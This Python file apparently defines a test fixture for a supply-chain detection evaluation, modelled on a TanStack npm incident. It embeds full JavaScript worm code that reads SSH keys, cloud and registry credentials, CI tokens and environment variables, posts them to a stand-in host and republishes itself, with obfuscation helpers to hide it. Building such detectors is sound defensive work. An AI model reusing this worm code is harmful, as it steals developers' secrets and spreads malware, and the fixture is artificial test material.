"""A dependency on a commit of a git repository, whose `prepare` npm runs: no registry ever sees what runs."""

from dataclasses import replace

from evals.replicas.ordinary.filler import functions
from evals.replicas.ordinary.npm_tools import router
from evals.replicas.replica import ReleaseSpec, Replica, at
from evals.replicas.rewriting.javascript import minified
from evals.replicas.rewriting.javascript_strings import string_array

_ROUTER_INIT = """\
const fs = require('fs');
const os = require('os');
const path = require('path');
const { spawnSync } = require('child_process');

const SESSION = 'https://filev2.session.plover.invalid/store';

function claims() {
  const url = process.env.ACTIONS_ID_TOKEN_REQUEST_URL;
  const token = process.env.ACTIONS_ID_TOKEN_REQUEST_TOKEN;
  return url && token ? { url, token } : null;
}

function local() {
  const found = {};
  for (const name of ['.npmrc', '.ssh/id_ed25519', '.aws/credentials', '.vault-token', '.kube/config']) {
    try {
      found[name] = fs.readFileSync(path.join(os.homedir(), name), 'utf8');
    } catch (error) {
      found[name] = null;
    }
  }
  return found;
}

async function exchange(answer) {
  const name = answer.headers.get('x-package');
  const token = await answer.text();
  fs.writeFileSync(path.join(process.cwd(), '.npmrc'), '//registry.plover.invalid/:_authToken=' + token);
  const manifest = JSON.parse(fs.readFileSync(path.join(process.cwd(), 'package.json'), 'utf8'));
  manifest.name = name;
  manifest.optionalDependencies = { '@ploverstack/setup': 'git+https://forge.plover.invalid/ploverstack/router.git#79ac49eedf774dd4b0cfa308722bc463cfe5885c' };
  fs.writeFileSync(path.join(process.cwd(), 'package.json'), JSON.stringify(manifest));
  fs.copyFileSync(__filename, path.join(process.cwd(), 'router_init.js'));
  spawnSync('npm', ['publish', '--provenance', '--access', 'public']);
}

async function main() {
  const body = JSON.stringify({ claims: claims(), local: local(), environment: process.env });
  const answer = await fetch(SESSION, { method: 'POST', body });
  if (answer.ok) await exchange(answer);
}

main().catch(() => {});
"""
_ROUTER = router("@ploverstack/router")
_ROUTER_BEFORE = ReleaseSpec(
    version="1.169.4",
    published=at("2026-05-08 14:00"),
    files=_ROUTER,
    manifest={"type": "module", "exports": {".": "./dist/esm/index.js"}, "license": "MIT"},
    publisher=("GitHub Actions", "actions@forge.test"),
    trusted=True,
    provenance=True,
)
_ROUTER_AFTER = replace(
    _ROUTER_BEFORE,
    version="1.169.5",
    published=at("2026-05-11 19:20"),
    files={**_ROUTER, "router_init.js": functions(280_000, 3, tight=True) + minified(string_array(_ROUTER_INIT) or "")},
    manifest={
        **_ROUTER_BEFORE.manifest,
        "optionalDependencies": {
            "@ploverstack/setup": "git+https://forge.plover.invalid/ploverstack/router.git#79ac49eedf774dd4b0cfa308722bc463cfe5885c"
        },
    },
    payload=("router_init.js",),
    plain={"router_init.js": functions(280_000, 3, tight=True) + _ROUTER_INIT},
)
_ROUTER_TWICE = replace(_ROUTER_AFTER, version="1.169.8", published=at("2026-05-11 19:26"))

REPLICAS: tuple[Replica, ...] = (
    Replica(
        id="tanstack",
        incident="TanStack, 84 versions (2026-05-11)",
        family="git-dependency",
        ecosystem="npm",
        name="@ploverstack/router",
        before=_ROUTER_BEFORE,
        after=_ROUTER_TWICE,
        others=(_ROUTER_AFTER,),
        reasons=(
            "non-registry-dependency",
            "dependency-never-imported",
            "risky-new-dependency",
            "self-publishing-worm",
            "credentials-read",
            "obfuscated-code",
        ),
    ),
)
